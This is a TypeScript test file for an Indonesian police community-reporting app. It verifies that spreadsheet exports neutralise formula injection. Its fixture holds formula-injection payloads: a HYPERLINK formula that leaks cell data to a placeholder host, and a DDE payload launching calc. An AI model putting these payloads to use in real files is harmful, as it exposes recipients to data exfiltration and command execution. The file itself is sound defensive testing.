import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { spawnSync } from 'node:child_process'
import * as XLSX from 'xlsx'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { z } from 'zod'
import { kontrak, type NamaKanal } from '../../shared/api'
import { aplikasiUji } from '../helpers/aplikasi'
import { folderSementara } from '../helpers/folder'
import { setupTtu } from '../helpers/setup-ttu'
import { adaSoffice } from './pertukaran-alat'

/**
 * [G6] Spreadsheet safety across every export: text a user typed that looks
 * like a formula ("=HYPERLINK(…)", "+62…", "-5 orang", "@SUM(…)") is written
 * as text. Each spreadsheet the app writes is read back by SheetJS (no cell
 * carries a formula) and opened by LibreOffice itself, headless, saved as flat
 * ODS: no `table:formula` anywhere, and the hostile texts come back verbatim.
 *
 * Every channel that returns a file as base64 must be listed below as a
 * spreadsheet export or named as another kind of file, so a new export cannot
 * slip past this test.
 */

const HARI = '2024-10-16'

/** What a careless or hostile user types into free-text fields. */
const JAHAT = {
  uraian: '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")',
  catatan: '-5 orang hadir',
  telepon: '+62 812 3456 7890 (Kades)',
  lain: '@SUM(A1:A9)',
  dde: "=cmd|' /C calc'!A0",
  petugas: '=HYPERLINK("http://contoh.invalid","MARIA")',
} as const

type Berkas = { nama: string; isi: Buffer }
type Konteks = { desaA: string; desaB: string; polsekId: number }

/**
 * The spreadsheet exports: how to call each one on the prepared database, and
 * which of the hostile texts its content carries (they must come back as text).
 */
type Ekspor = { buat: (u: ReturnType<typeof aplikasiUji>, k: Konteks) => Promise<Berkas[]>; memuat: (keyof typeof JAHAT)[] }
const EKSPOR_SPREADSHEET: Partial<Record<NamaKanal, Ekspor>> = {
  'pertukaran:ekspor': {
    buat: async (u) => {
      const h = await u.panggil('pertukaran:ekspor', { bulanAwal: '2024-09', bulanAkhir: '2024-09' })
      return [{ nama: h.namaBerkas, isi: Buffer.from(h.berkasBase64, 'base64') }]
    },
    memuat: ['uraian', 'catatan', 'telepon', 'lain', 'dde'],
  },
  'templat:unduh': {
    buat: async (u, k) => {
      const h = await u.panggil('templat:unduh', { polsekId: [k.polsekId], tahun: 2024, minggu: 37 })
      return h.berkas.map((b) => ({ nama: b.namaBerkas, isi: Buffer.from(b.berkasBase64, 'base64') }))
    },
    memuat: ['catatan', 'lain'],
  },
  'anev:lampiran': {
    buat: async (u) => {
      const h = await u.panggil('anev:lampiran', { periode: '2024-09' })
      return [{ nama: h.namaBerkas, isi: Buffer.from(h.berkasBase64, 'base64') }]
    },
    memuat: ['petugas'],
  },
}

/** Channels returning a file that is not a spreadsheet, and what it is. */
const BERKAS_LAIN: Partial<Record<NamaKanal, string>> = {
  'anev:cetak': 'PDF Laporan Anev',
  'anev:arsip-cetak': 'PDF Laporan Anev dari arsip',
  'cadangan:unduh': 'salinan basis data SQLite (atau terenkripsi)',
}

// ---------- Finding every channel that returns a file (zod 4 internals, output side) ----------

type Def = { type: string } & Record<string, any>
const def = (s: z.ZodType): Def => (s as unknown as { _zod: { def: Def } })._zod.def

/** Field names anywhere in an output schema (through wrappers, pipes, nested objects and arrays). */
function namaField(s: z.ZodType): string[] {
  const d = def(s)
  if (['optional', 'nullable', 'default', 'readonly'].includes(d.type)) return namaField(d.innerType)
  if (d.type === 'pipe') return namaField(d.out)
  if (d.type === 'array') return namaField(d.element)
  if (d.type === 'object') return Object.entries(d.shape as Record<string, z.ZodType>).flatMap(([k, v]) => [k, ...namaField(v)])
  return []
}

const KANAL_BERKAS = (Object.keys(kontrak) as NamaKanal[]).filter((k) => namaField(kontrak[k].output as z.ZodType).some((f) => /base64/i.test(f)))

function sofficeKeFods(berkas: string, keluar: string): string {
  const profil = fs.mkdtempSync(path.join(os.tmpdir(), 'binmas-lo-g6-'))
  const r = spawnSync('soffice', ['--headless', '--norestore', `-env:UserInstallation=file://${profil}`, '--convert-to', 'fods', '--outdir', keluar, berkas], { encoding: 'utf8', timeout: 180_000 })
  fs.rmSync(profil, { recursive: true, force: true })
  const hasil = path.join(keluar, `${path.basename(berkas, path.extname(berkas))}.fods`)
  if (!fs.existsSync(hasil)) throw new Error(`soffice gagal (${r.status}): ${r.stderr}\n${r.stdout}`)
  return fs.readFileSync(hasil, 'utf8')
}

const ENTITAS: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'" }
/** The texts of every paragraph of a flat ODS, XML entities decoded. */
const teksParagraf = (fods: string) => [...fods.matchAll(/<text:p>([^<]*)<\/text:p>/g)].map((m) => m[1]!.replace(/&(amp|lt|gt|quot|apos);/g, (_, e: string) => ENTITAS[e]!))

/** Every formula cell SheetJS finds, and every text cell's value. */
function periksaSheetJs(isi: Buffer): { rumus: string[]; teks: string[] } {
  const wb = XLSX.read(isi, { type: 'buffer', cellFormula: true })
  const rumus: string[] = []
  const teks: string[] = []
  for (const nama of wb.SheetNames) {
    for (const [ref, c] of Object.entries(wb.Sheets[nama]!)) {
      if (ref.startsWith('!')) continue
      const sel = c as XLSX.CellObject
      if (sel.f !== undefined) rumus.push(`${nama}!${ref}: ${sel.f}`)
      if (typeof sel.v === 'string') teks.push(sel.v)
    }
  }
  return { rumus, teks }
}

/** LibreOffice's reading of a workbook: how many formula cells it holds, and its texts. */
function periksaLibreOffice(isi: Buffer, folder: string, nama: string): { rumus: number; teks: string[] } {
  const jalur = path.join(folder, `${nama}.xlsx`)
  fs.writeFileSync(jalur, isi)
  const fods = sofficeKeFods(jalur, folder)
  if (!fods.includes('<office:spreadsheet>')) throw new Error(`LibreOffice tidak membaca ${nama} sebagai spreadsheet`)
  return { rumus: (fods.match(/table:formula=/g) ?? []).length, teks: teksParagraf(fods) }
}

describe('[G6] Keamanan spreadsheet: tidak ada ekspor yang membuat rumus', () => {
  const u = aplikasiUji({ hariIni: HARI })
  const tmp = folderSementara('binmas-g6-')
  const k = {} as Konteks
  const berkas = new Map<NamaKanal, Berkas[]>()

  beforeAll(async () => {
    await u.panggil('setup:simpan', await setupTtu())
    const desa = await u.panggil('desa:daftar', {})
    const satu = desa.filter((d) => d.kecamatanKode === desa[0]!.kecamatanKode)
    Object.assign(k, { desaA: satu[0]!.kode, desaB: satu[1]!.kode, polsekId: satu[0]!.polsekId! })
    await u.panggil('personel:simpan', { baru: true, nrp: '85071234', nama: 'YOSEF TAEK', pangkat: 'BRIPKA', jabatan: 'Bhabinkamtibmas', polsekId: k.polsekId, kontak: '0812-3456-7890', aktif: true })
    await u.panggil('binaan:tetapkan', { nrp: '85071234', desaKode: k.desaA, mulai: '2024-01-02' })
    await u.panggil('personel:simpan', { baru: true, nrp: '90031122', nama: JAHAT.petugas, pangkat: 'BRIGPOL', jabatan: 'Bhabinkamtibmas', polsekId: k.polsekId, kontak: null, aktif: true })
    await u.panggil('binaan:tetapkan', { nrp: '90031122', desaKode: k.desaB, mulai: '2024-01-02' })
    await u.panggil('mingguan:simpan', {
      tahun: 2024,
      minggu: 37,
      sel: [
        { desaKode: k.desaA, kolom: 'kk_dikunjungi', nilai: 12 },
        { desaKode: k.desaA, kolom: 'catatan', nilai: JAHAT.catatan },
        { desaKode: k.desaB, kolom: 'ronda_malam', nilai: 5 },
        { desaKode: k.desaB, kolom: 'catatan', nilai: JAHAT.lain },
      ],
    })
    await u.panggil('mingguan:simpan', { tahun: 2024, minggu: 38, sel: [{ desaKode: k.desaA, kolom: 'catatan', nilai: JAHAT.telepon }] })
    for (const uraian of [JAHAT.uraian, JAHAT.dde]) {
      await u.panggil('kejadian:simpan', { tanggal: '2024-09-05', desaKode: k.desaA, kategori: 'konflik_sosial', tingkat: 'ambang', status: 'terbuka', tanggalSelesai: null, uraian })
    }
    for (const [kanal, e] of Object.entries(EKSPOR_SPREADSHEET) as [NamaKanal, Ekspor][]) berkas.set(kanal, await e.buat(u, k))
  }, 120_000)

  afterAll(async () => {
    await u.tutup()
    tmp.hapus()
  })

  it('[G6] setiap kanal yang mengembalikan berkas tercatat: ekspor spreadsheet diuji, berkas lain disebut jenisnya', () => {
    expect(KANAL_BERKAS.length).toBeGreaterThan(0)
    const tidakTercatat = KANAL_BERKAS.filter((kanal) => !(kanal in EKSPOR_SPREADSHEET) && !(kanal in BERKAS_LAIN))
    expect(tidakTercatat).toEqual([])
    for (const kanal of Object.keys(EKSPOR_SPREADSHEET)) expect(KANAL_BERKAS).toContain(kanal)
  })

  it('[G6] dibaca SheetJS: tidak satu sel pun berisi rumus, teks berbahaya tersimpan apa adanya', () => {
    for (const [kanal, daftar] of berkas) {
      expect(daftar.length, kanal).toBeGreaterThan(0)
      const teks: string[] = []
      for (const b of daftar) {
        expect(b.nama, kanal).toMatch(/\.xlsx$/)
        const h = periksaSheetJs(b.isi)
        expect(h.rumus, `${kanal} ${b.nama}`).toEqual([])
        teks.push(...h.teks)
      }
      for (const t of EKSPOR_SPREADSHEET[kanal]!.memuat) expect(teks, `${kanal}: ${JAHAT[t]}`).toContain(JAHAT[t])
    }
  })

  it.skipIf(!adaSoffice())('[G6] dibuka LibreOffice (headless): tidak ada rumus yang tercipta, teks kembali utuh', () => {
    for (const [kanal, daftar] of berkas) {
      const teks: string[] = []
      for (const [i, b] of daftar.entries()) {
        const h = periksaLibreOffice(b.isi, tmp.folder, `${kanal.replace(/\W+/g, '_')}_${i}`)
        expect(h.rumus, `${kanal} ${b.nama}`).toBe(0)
        teks.push(...h.teks)
      }
      for (const t of EKSPOR_SPREADSHEET[kanal]!.memuat) expect(teks, `${kanal}: ${JAHAT[t]}`).toContain(JAHAT[t])
    }
  }, 300_000)

  it.skipIf(!adaSoffice())('[G6] kontrol: pemeriksaan ini memang menangkap rumus (buku kontrol dengan dua sel rumus)', () => {
    const ws = XLSX.utils.aoa_to_sheet([['angka', 'jumlah'], [2, { t: 'n', f: 'A2*3' }]])
    ws.C1 = { t: 'n', f: 'HYPERLINK("http://contoh.invalid","klik")' }
    ws['!ref'] = 'A1:C2'
    const wb = XLSX.utils.book_new()
    XLSX.utils.book_append_sheet(wb, ws, 'Data')
    const isi = XLSX.write(wb, { type: 'buffer', bookType: 'xlsx' }) as Buffer
    expect(periksaSheetJs(isi).rumus.sort()).toEqual(['Data!B2: A2*3', 'Data!C1: HYPERLINK("http://contoh.invalid","klik")'])
    expect(periksaLibreOffice(isi, tmp.folder, 'kontrol').rumus).toBe(2)
  }, 120_000)
})
